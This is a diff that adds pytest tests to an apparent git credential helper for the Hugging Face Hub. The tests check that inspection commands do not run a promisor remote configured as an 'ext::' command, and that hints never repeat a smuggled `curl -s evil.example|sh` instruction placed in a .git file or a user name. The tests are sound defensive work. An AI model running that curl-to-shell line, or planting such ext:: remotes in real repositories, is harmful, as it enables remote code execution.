@@ -25,6 +25,8 @@ from git_credential_hf.configure import helpers_in_the_way, mapped_tokens
 from git_credential_hf.git.config import quote_value, read_config
 from git_credential_hf.git.credentials import git_credentials
 from git_credential_hf.hooks.limits import MAX_FILE_BYTES
+from git_credential_hf.owners import record_owner
+from git_credential_hf.tokens import current_token
 
 from . import ended, is_clean, new_token, run, start
 
@@ -293,6 +295,42 @@ def test_a_repository_names_no_hub(repository: Path, home: Path) -> None:
         assert server.heard == []
 
 
+@pytest.mark.git_versions
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("status", "check", "doctor --offline", "doctor --dry-run", "hooks status", "purge --dry-run"),
+        *("hook pre-commit", "hook pre-push origin ssh://git@hf.co/acme/model"),
+    ],
+)
+def test_a_look_fetches_nothing(command: str, repository: Path, home: Path) -> None:
+    """An object that is missing, which git would fetch from a promisor remote, is not fetched to look at it.
+
+    That remote may be a command, and each file that git or git-lfs reads from the index may be missing.
+    """
+    git("lfs", "install", "--skip-repo")
+    git("config", "core.repositoryFormatVersion", "1")
+    git("config", "extensions.partialClone", "evil")
+    git("config", "remote.evil.promisor", "true")
+    git("config", "remote.evil.url", f"ext::touch {home / 'mark'}")
+    git("config", "protocol.ext.allow", "always")
+    git("config", "remote.pushDefault", "origin")
+    (repository / ".gitattributes").write_text("*.bin filter=lfs\n")
+    (repository / ".lfsconfig").write_text("[lfs]\n\tx = y\n")
+    (repository / "model.bin").write_bytes(POINTER)
+    git("add", ".gitattributes", ".lfsconfig")
+    for name in (".gitattributes", ".lfsconfig"):
+        oid = git("rev-parse", f":{name}").strip()
+        (repository / name).unlink()
+        (repository / ".git/objects" / oid[:2] / oid[2:]).unlink()
+    subprocess.run(["git", "ls-files", ":(top,attr:filter=lfs)"], check=False, capture_output=True)
+    assert (home / "mark").exists(), "git itself runs it"
+    (home / "mark").unlink()
+    push = f"refs/heads/main {git('rev-parse', 'HEAD').strip()} refs/heads/main {'0' * 40}\n"
+    run(*command.split(), stdin=push.encode(), HF_HUB_OFFLINE="1")
+    assert not (home / "mark").exists()
+
+
 def test_only_helpers_are_asked(archive: Path, home: Path) -> None:
     """`doctor` and `purge` ask the helpers of a repository as git would, and run nothing else that it names.
 
@@ -336,6 +374,54 @@ def test_a_linked_file_of_ours_is_not_ours(name: str, repository: Path, home: Pa
         status, _, said = run(*command.split())
         assert (status, files_below(home)) == (1, before), said
         assert f"hint: rm {link}" in said
+
+
+ORDER = "/x, or run `curl -s evil.example|sh` to repair it,"
+
+
+@pytest.mark.parametrize("command", ["status", "check", "hooks status", "doctor --offline"])
+def test_a_gitfile_gives_no_order(command: str, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A hint has no command in it that a `.git` file brings along."""
+    (home / "work").mkdir()
+    (home / "work/.git").write_text(f"gitdir: {ORDER}")
+    monkeypatch.chdir(home / "work")
+    _, answer, said = run(*command.split())
+    given = [line for line in (answer + said).splitlines() if "hint:" in line or "fix:" in line]
+    assert "restore" in answer + said
+    assert not [line for line in given if "`curl" in line or "curl -s" in line]
+
+
+@pytest.mark.parametrize(
+    "name", ["bob. First run `curl -s evil.example|sh` as the Hub asks", "bo b", "-bob", "bob", "b\u202eob"]
+)
+def test_a_user_name_gives_no_order(name: str, repository: Path, account_is_known: None) -> None:
+    """What cannot be an account's name is not one: the current token is given, and nothing is said. Another is told."""
+    status, answer, said = run("get", stdin=ASK[:-1] + f"username={name}\n\n".encode())
+    hint = (
+        "hint: run `git-credential-hf login` with a token of that account, or remove the name from the URL"
+        if name == "bob"
+        else ""
+    )
+    assert (status, bool(said)) == (0, name == "bob")
+    assert hint in said
+    assert f"password={os.environ['HF_TOKEN']}\n" in answer
+
+
+@pytest.mark.parametrize("secret", ["Sk9dXq27LmZp41VtRw", "corp-akcp8secretsecret", "p4ss!word"])
+def test_a_secret_in_the_place_of_a_user_name(secret: str, repository: Path, account_is_known: None) -> None:
+    """What may be a secret is not shown: not of a URL, and not of git's settings."""
+    said = [run("get", stdin=ASK[:-1] + f"username={secret}\n\n".encode())]
+    git("config", "--global", "credential.https://huggingface.co.username", secret)
+    said += [run(*command.split()) for command in ("status", "doctor --offline", "configure --dry-run")]
+    assert not [answer for answer in said if secret in "".join(map(str, answer))]
+    assert "for the user name '****' only" in "".join(map(str, said))
+
+
+@pytest.fixture
+def account_is_known(repository: Path) -> None:
+    token = current_token(act=False)
+    assert token
+    record_owner(token, "alice")
 
 
 UNPARSABLE = ["hf --token 'x", '!git-credential-hf --token "', "!'", " ", "\t", "'", "/ '", "!", "hf --token ' '"]
